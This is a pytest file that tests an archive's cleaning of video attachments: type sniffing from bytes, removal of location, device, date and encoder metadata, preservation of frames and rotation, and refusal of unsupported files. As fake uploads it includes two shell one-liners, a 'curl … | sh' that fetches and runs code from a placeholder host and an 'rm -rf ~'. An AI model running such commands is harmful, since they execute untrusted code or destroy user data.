"""Video attachments: the type read from the bytes, a remux that keeps pictures and sound only
(no location, device, date, handler names or data tracks), and a refusal, with nothing stored,
for what the remux cannot do reliably."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from archive.attachment_files import RefusedAttachment, clean_attachment, sniff_media_type
from archive.attachment_intake import AttachmentInput
from archive.blobs import BlobStore
from archive.lesson_file import draft_from_fields
from archive.queries import load_record
from archive.video_files import VideoRefused
from node.node import Node
from tests.attachment_files import VIDEO_CANARIES, video_with_canaries
from tests.conftest import HomeFactory
from tests.node.conftest import stored_counts

PASSPHRASE = "a long enough passphrase"
CONSENT = {"basis": "consent", "scope": "federation",
           "subjects": [{"pseudonym": "Heron", "share": True, "photographed": True,
                         "recorded": True}]}  # fmt: skip


def streams_and_metadata(data: bytes) -> tuple[list[str], dict[str, str], list[dict[str, str]]]:
    import av

    with av.open(io.BytesIO(data)) as container:
        kinds = [stream.type for stream in container.streams]
        streams = [dict(stream.metadata) for stream in container.streams]
        return kinds, dict(container.metadata), streams


@pytest.mark.parametrize(
    ("muxer", "media_type"),
    [("mp4", "video/mp4"), ("webm", "video/webm"), ("matroska", "video/x-matroska")],
)
def test_a_video_is_remuxed_without_location_device_date_or_data_tracks(
    muxer: str, media_type: str
) -> None:
    original = video_with_canaries(muxer)
    assert sniff_media_type(original) == media_type
    cleaned = clean_attachment(original, f"drill.{muxer}")
    assert cleaned.media_type == media_type
    for canary in VIDEO_CANARIES:
        assert canary not in cleaned.data, canary
    assert {"GPS location", "device make and model", "handler names"} <= set(cleaned.removed)
    kinds, container, streams = streams_and_metadata(cleaned.data)
    assert kinds == ["video", "audio"]  # the data track is gone, pictures and sound stay
    # Matroska's Info must name a writing application: the muxer's bare name, no version.
    assert {key.lower(): value for key, value in container.items()
            if key not in ("major_brand", "minor_version", "compatible_brands")} in (
        {}, {"encoder": "Lavf"})  # fmt: skip
    assert all("creation_time" not in stream for stream in streams)
    if muxer == "mp4":
        assert "data streams (GPS and sensor tracks, timecode)" in cleaned.removed
        assert "date and time" in cleaned.removed
    if muxer == "matroska":  # a drone's subtitles, a cover picture, chapters: all gone
        assert {"subtitles", "attached files and cover pictures", "chapters"} <= set(
            cleaned.removed
        )


def test_a_renamed_script_and_photos_or_audio_in_an_mp4_box_are_not_videos() -> None:
    script = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
    with pytest.raises(RefusedAttachment, match="read from the file's bytes, not its name"):
        clean_attachment(script, "drill.mp4")
    heic = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64)
    assert sniff_media_type(heic) is None
    with pytest.raises(RefusedAttachment, match="cannot be read"):
        clean_attachment(b"\x00\x00\x00\x18ftypisom" + bytes(200), "broken.mp4")


def _encoded(muxer: str, codec: str, pixels: str, audio_only: bool = False) -> bytes:
    import av
    from PIL import Image

    out = io.BytesIO()
    with av.open(out, "w", format=muxer) as container:
        if audio_only:
            stream = container.add_stream("aac", rate=48000)
            frame = av.AudioFrame(format="fltp", layout="mono", samples=1024)
            for plane in frame.planes:
                plane.update(bytes(plane.buffer_size))
            frame.sample_rate, frame.pts = 48000, 0
            frames = [frame]
        else:
            stream = container.add_stream(codec, rate=10)
            stream.width, stream.height, stream.pix_fmt = 16, 16, pixels
            frames = [av.VideoFrame.from_image(Image.new("RGB", (16, 16)))] * 2
        for each in frames:
            for packet in stream.encode(each):
                container.mux(packet)
        for packet in stream.encode():
            container.mux(packet)
    return out.getvalue()


def test_what_the_remux_cannot_do_reliably_is_refused() -> None:
    with pytest.raises(RefusedAttachment, match="no video stream"):
        clean_attachment(_encoded("mp4", "aac", "", audio_only=True), "voice.m4v")
    # QuickTime animation cannot be carried in MP4: refused, not stored half cleaned.
    with pytest.raises(RefusedAttachment, match="cannot be copied into a clean MP4"):
        clean_attachment(_encoded("mov", "qtrle", "rgb24"), "screen.mov")


def test_a_sealed_home_keeps_no_canary_of_a_video_anywhere(make_home: HomeFactory) -> None:
    node = Node(make_home(passphrase=PASSPHRASE), passphrase=lambda: PASSPHRASE)
    front = {"title": "Drill on video", "kind": "checklist", "consent": CONSENT}
    video = AttachmentInput("drill.mp4", video_with_canaries(), "The drill", ("Heron",))
    intake = node.take_lesson(draft_from_fields(front, "x\n", "t"), "t", "admin",
                              attachments=[video])  # fmt: skip
    assert intake.record_id is not None
    (attachment,) = load_record(node.db, intake.record_id).lesson.attachments
    assert attachment.kind == "video" and "GPS location" in attachment.removed
    store = BlobStore.of(node.db)
    assert store.key is not None
    stored = store.read(attachment.hash_hex)  # decrypted
    assert stored.startswith(video.data[:4]) and len(stored) == attachment.size
    root = node.paths.root
    node.close()
    for canary in VIDEO_CANARIES:
        assert canary not in stored, canary
        assert [p for p in root.rglob("*") if p.is_file() and canary in p.read_bytes()] == []


def test_a_refused_video_stores_nothing(make_home: HomeFactory, tmp_path: Path) -> None:
    home = make_home()
    node = Node(home)
    front = {"title": "Drill on video", "kind": "checklist", "consent": CONSENT}
    script = AttachmentInput("drill.mp4", b"#!/bin/sh\nrm -rf ~\n", "", ("Heron",))
    with pytest.raises(RefusedAttachment, match=r"drill\.mp4: its content is not"):
        node.take_lesson(draft_from_fields(front, "x\n", "t"), "t", "admin",
                         attachments=[script])  # fmt: skip
    node.close()
    assert stored_counts(home) == (0, 0)
    blobs = home / "blobs"
    assert not blobs.exists() or not [p for p in blobs.rglob("*") if p.is_file()]


def _coded(codec: str, muxer: str, frames: int = 6) -> bytes:
    """A few frames from a real encoder: x264 and x265 write their settings into the coded
    stream (SEI), which is what a camera's own notes there look like."""
    import av
    from PIL import Image

    out = io.BytesIO()
    with av.open(out, "w", format=muxer) as container:
        stream = container.add_stream(codec, rate=10)
        stream.width, stream.height, stream.pix_fmt = 64, 64, "yuv420p"
        for index in range(frames):
            picture = Image.new("RGB", (64, 64), (index * 40, 80, 20))
            for packet in stream.encode(av.VideoFrame.from_image(picture)):
                container.mux(packet)
        for packet in stream.encode():
            container.mux(packet)
    return out.getvalue()


def decoded_frames(data: bytes) -> int:
    import av

    with av.open(io.BytesIO(data)) as container:
        return sum(1 for _ in container.decode(video=0))


@pytest.mark.parametrize(
    ("codec", "muxer", "note"),
    [("libx264", "mp4", b"x264 - core"), ("libx264", "matroska", b"x264 - core"),
     ("libx265", "mp4", b"x265 (build"), ("libx265", "matroska", b"x265 (build")],
)  # fmt: skip
def test_notes_inside_the_coded_stream_go_and_every_picture_stays(
    codec: str, muxer: str, note: bytes
) -> None:
    original = _coded(codec, muxer)
    assert note in original
    cleaned = clean_attachment(original, f"clip.{muxer}")
    assert note not in cleaned.data
    assert decoded_frames(cleaned.data) == decoded_frames(original) == 6


def test_an_av1_webm_stays_webm_with_every_picture() -> None:
    original = _coded("libsvtav1", "webm")
    cleaned = clean_attachment(original, "clip.webm")
    assert cleaned.media_type == "video/webm"
    assert decoded_frames(cleaned.data) == 6


def test_an_hevc_configuration_record_loses_its_sei_arrays() -> None:
    import av

    from archive.video_files import hvcc_without_sei

    with av.open(io.BytesIO(_coded("libx265", "mp4"))) as container:
        record = bytes(container.streams.video[0].codec_context.extradata or b"")
    assert record[0] == 1 and b"x265" in record  # hvcC, with x265's SEI array
    cleaned = hvcc_without_sei(record)
    assert b"x265" not in cleaned and cleaned[22] == record[22] - 1
    assert cleaned[:22] == record[:22]
    with pytest.raises(VideoRefused, match="cut short"):
        hvcc_without_sei(record[:30])


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  ", "video/mp4"),  # a MOV
        (b"\x00\x00\x00\x08wide\x00\x00\x10\x00mdat", "video/mp4"),  # QuickTime, no ftyp
        (b"\x00\x00\x00\x20ftypmp42\x00\x00\x00\x00mp42isom", "video/mp4"),
        (b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x84webm", "video/webm"),
        (b"\x1a\x45\xdf\xa3\xa3\x42\x86\x81\x01\x42\x82\x88matroska", "video/x-matroska"),
        (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", None),  # an iPhone photo
        (b"\x00\x00\x00\x18ftypavif\x00\x00\x00\x00avifmif1", None),
        (b"\x00\x00\x00\x18ftypM4A \x00\x00\x00\x00M4A isom", None),  # a recording
        (b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x84abcd", None),  # EBML, not video
        (b"RIFF\x00\x00\x00\x00AVI LIST", None),
    ],
)
def test_the_first_bytes_decide_what_is_a_video(head: bytes, expected: str | None) -> None:
    assert sniff_media_type(head + bytes(64)) == expected


def _track_matrix(mp4: bytes) -> list[int]:
    """The display matrix of the first track header (tkhd, version 0): how it is turned."""
    at = mp4.index(b"tkhd") + 4 + 40  # after version, flags, times, ids, layer and volume
    return [int.from_bytes(mp4[at + k : at + k + 4], "big", signed=True) for k in range(0, 36, 4)]


def test_a_phone_video_filmed_upright_stays_upright() -> None:
    import av
    from PIL import Image

    out = io.BytesIO()
    with av.open(out, "w", format="mp4") as container:
        stream = container.add_stream("libx264", rate=10)
        stream.width, stream.height, stream.pix_fmt = 64, 32, "yuv420p"
        stream.set_display_rotation(90)  # as a phone held upright records
        for _ in range(3):
            for packet in stream.encode(av.VideoFrame.from_image(Image.new("RGB", (64, 32)))):
                container.mux(packet)
        for packet in stream.encode():
            container.mux(packet)
    original = out.getvalue()
    turned = _track_matrix(original)
    assert turned[:2] == [0, -65536]  # rotated, not the identity
    assert _track_matrix(clean_attachment(original, "upright.mp4").data) == turned
